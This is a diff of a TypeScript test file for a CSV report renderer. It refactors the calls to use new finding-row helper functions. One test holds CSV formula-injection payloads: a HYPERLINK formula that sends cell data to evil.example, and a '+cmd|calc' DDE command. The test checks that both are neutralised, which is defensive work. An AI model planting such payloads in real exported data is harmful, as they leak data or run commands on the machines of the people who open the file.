@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { CODE_COLUMNS, FINDING_COLUMNS, renderCsv } from '../src/report/csv.js';
+import { CODE_COLUMNS, csvFindingLine, csvFindingsHeader, FINDING_COLUMNS, renderCsv } from '../src/report/csv.js';
 import type { FindingRow } from '../src/report/finding-row.js';
 import type { Report } from '../src/report/model.js';
 import { loadReport, parseCsv } from './helpers/reports.js';
@@ -12,7 +12,7 @@ function asObjects(csv: string): Array<Record<string, string>> {
 
 test('code rows have the documented columns and the report values', () => {
   const r = loadReport('mixed-sync-run.json');
-  const csv = renderCsv(r, { rows: 'codes' });
+  const csv = renderCsv(r);
   const header: string[] = parseCsv(csv)[0]!;
   for (const required of ['level', 'code', 'count', 'exchanges', 'title', 'remedy', 'retry', 'first_seen', 'last_seen', 'top_endpoint', 'sample_request_ids', 'documented', 'meaning']) {
     assert.ok(header.includes(required), required);
@@ -43,7 +43,7 @@ test('a formula in a log-derived cell is neutralised, a negative count stays a n
   c.endpoints[0]!.endpoint = '@SUM(1+1)';
   c.title = '+cmd|calc';
   c.count = -3;
-  const row = asObjects(renderCsv(r, { rows: 'codes' })).find((x) => x.code === c.code)!;
+  const row = asObjects(renderCsv(r)).find((x) => x.code === c.code)!;
   assert.equal(row.top_message, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
   assert.equal(row.top_endpoint, "'@SUM(1+1)");
   assert.equal(row.title, "'+cmd|calc");
@@ -53,13 +53,12 @@ test('a formula in a log-derived cell is neutralised, a negative count stays a n
 test('control characters from logs do not reach the CSV', () => {
   const r = loadReport('mixed-sync-run.json');
   r.levels.record.codes[0]!.messages[0]!.message = "Field '\u001b[31mx\u001b]0;t\u0007' not found";
-  const csv = renderCsv(r, { rows: 'codes' });
+  const csv = renderCsv(r);
   assert.ok(!csv.includes('\u001b'));
   assert.ok(!csv.includes('\u0007'));
 });
 
 test('finding rows carry file:line, params and record index, one row per finding', () => {
-  const r = loadReport('mixed-sync-run.json');
   const findings: FindingRow[] = [
     { level: 'record', code: '1006', message: "Field 'leadScoreLegacy' not found", params: ['leadScoreLegacy'], recordIndex: 7,
       requestId: 'e42b#14272d07d78', endpoint: '/rest/v1/leads.json', time: '2024-10-14T09:02:40.005Z',
@@ -67,9 +66,7 @@ test('finding rows carry file:line, params and record index, one row per finding
     { level: 'http', code: '413', message: '-Request Entity Too Large', params: [], requestId: null,
       endpoint: '/rest/v1/leads.json', time: null, source: { file: '<stdin>', line: 3088 } },
   ];
-  // An iterable, not only an array: the aggregate stage may hand over a generator.
-  function* gen() { yield* findings; }
-  const rows = asObjects(renderCsv(r, { rows: 'findings' }, gen()));
+  const rows = asObjects(csvFindingsHeader() + findings.map(csvFindingLine).join(''));
   assert.equal(rows.length, 2);
   assert.deepEqual(Object.keys(rows[0]!), [...FINDING_COLUMNS]);
   assert.equal(rows[0]!.source, 'logs/lead-sync-2024-10-14.ndjson.gz:98');
@@ -81,6 +78,5 @@ test('finding rows carry file:line, params and record index, one row per finding
 });
 
 test('findings rows without findings give the header only', () => {
-  const rows = parseCsv(renderCsv(loadReport('clean-run.json'), { rows: 'findings' }));
-  assert.deepEqual(rows, [[...FINDING_COLUMNS]]);
+  assert.deepEqual(parseCsv(csvFindingsHeader()), [[...FINDING_COLUMNS]]);
 });
